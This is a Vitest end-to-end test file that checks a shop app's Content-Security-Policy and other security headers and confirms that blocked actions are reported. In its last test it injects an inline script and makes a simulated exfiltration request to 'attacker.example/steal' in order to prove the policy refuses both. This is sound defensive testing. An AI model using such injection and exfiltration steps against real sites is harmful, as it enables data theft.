// The served app's security headers: a Content-Security-Policy that lets the app work (pages,
// the data layer, Realtime, the service worker) and blocks anything else, reported to the
// local server; plus nosniff, referrer, permissions and frame protection.
import { describe, expect, it } from 'vitest';
import { waitForServiceWorker, type Browser } from './support/browser.ts';
import { takeCspViolations } from './support/csp-violations.ts';
import { withShop } from './support/shop-session.ts';
import { apiUrl } from './support/sign-in.ts';
import type { Stack } from './support/stack.ts';
import { ENTRY_LOADER_CSP_SOURCE } from '../../scripts/prerender/deferred-entry.ts';
import { CATALOGUE_CHECK_CSP_SOURCE } from '../../scripts/prerender/catalogue-check.ts';
import { EARLY_INPUT_CSP_SOURCE } from '../../scripts/prerender/early-input.ts';
import { expectAttribute, expectVisible } from './support/wait.ts';

/** The policy's directives by name. */
function directives(policy: string): Record<string, string[]> {
  return Object.fromEntries(
    policy.split(';').map((part) => {
      const [name = '', ...values] = part.trim().split(/\s+/);
      return [name, values];
    }),
  );
}

describe('security headers', () => {
  let stack: Stack;
  let browser: Browser;

  withShop((s, b) => ([stack, browser] = [s, b]), { serviceWorkers: true });

  it('sends a CSP that names only the app, its Supabase project and the storage bucket', async () => {
    const api = new URL(apiUrl());
    for (const path of ['/', '/cart', '/sw.js', '/manifest.webmanifest']) {
      const response = await fetch(new URL(path, stack.appUrl));
      expect(response.status, path).toBe(200);
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      expect(response.headers.get('x-frame-options')).toBe('DENY');
      expect(response.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
      expect(response.headers.get('permissions-policy')).toContain('camera=(self)');
      expect(response.headers.get('permissions-policy')).toContain('geolocation=(self)');
      expect(response.headers.get('permissions-policy')).toContain('microphone=()');
      const csp = directives(response.headers.get('content-security-policy') ?? '');
      expect(csp['script-src']).toEqual([
        "'self'",
        ENTRY_LOADER_CSP_SOURCE,
        CATALOGUE_CHECK_CSP_SOURCE,
        EARLY_INPUT_CSP_SOURCE,
      ]);
      expect(csp['style-src']).toEqual(["'self'", "'unsafe-inline'"]);
      expect(csp['connect-src']).toEqual(["'self'", api.origin, `ws://${api.host}`]);
      expect(csp['img-src']).toEqual([
        "'self'",
        'data:',
        'blob:',
        `${api.origin}/storage/v1/object/public/`,
      ]);
      expect(csp['frame-ancestors']).toEqual(["'none'"]);
      expect(csp['object-src']).toEqual(["'none'"]);
      expect(csp['report-uri']).toEqual(['/__csp-report']);
    }
  });

  it('lists the analytics host only once the shop has configured Google Analytics', async () => {
    await stack.engine.query(
      "update public.site_settings set ga_measurement_id = 'G-MGRID2026' where id = 'default'",
    );
    try {
      // Pages and the service worker, which run under their policy.
      for (const path of ['/', '/products', '/cart', '/sw.js']) {
        const response = await fetch(new URL(path, stack.appUrl));
        const csp = directives(response.headers.get('content-security-policy') ?? '');
        expect(csp['script-src'], path).toEqual([
          "'self'",
          ENTRY_LOADER_CSP_SOURCE,
          CATALOGUE_CHECK_CSP_SOURCE,
          EARLY_INPUT_CSP_SOURCE,
          'https://www.googletagmanager.com',
        ]);
        expect(csp['connect-src'], path).toContain('https://*.google-analytics.com');
      }
    } finally {
      await stack.engine.query(
        "update public.site_settings set ga_measurement_id = null where id = 'default'",
      );
    }
  });

  it('runs the shop under the policy with no violation, and reports anything blocked', async () => {
    const { page } = browser;
    // Through the service worker, Realtime and the pages a visitor meets first; the shared
    // e2e setup (fail-on-csp.ts) fails this test on any violation along the way.
    await page.goto('/products/sl01');
    await waitForServiceWorker(page);
    await page.getByTestId('add-to-cart').click();
    await expectAttribute(page.getByTestId('cart-count'), 'data-count', '1');
    for (const path of ['/', '/products', '/cart', '/checkout', '/where-to-buy', '/login']) {
      await page.goto(path);
      await expectVisible(page.locator('main'));
    }
    expect(takeCspViolations()).toEqual([]);

    // An injected inline script and a request to another host are refused, and both the page
    // (securitypolicyviolation) and the server's report-uri hear of it.
    const ran = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true';
      document.head.append(script);
      const exfiltrated = await fetch('https://attacker.example/steal').then(
        () => true,
        () => false,
      );
      return { injected: '__injected' in window, exfiltrated };
    });
    expect(ran).toEqual({ injected: false, exfiltrated: false });
    const seen: string[] = [];
    const expected = [
      /^page: script-src-elem blocked inline/,
      /^page: connect-src blocked https:\/\/attacker\.example/,
      /^report: script-src-elem blocked inline/,
      /^report: connect-src blocked https:\/\/attacker\.example/,
    ];
    await expect
      .poll(
        () => {
          seen.push(...takeCspViolations());
          return expected.filter((pattern) => seen.some((line) => pattern.test(line))).length;
        },
        { timeout: 10_000 },
      )
      .toBe(expected.length);
  });
});
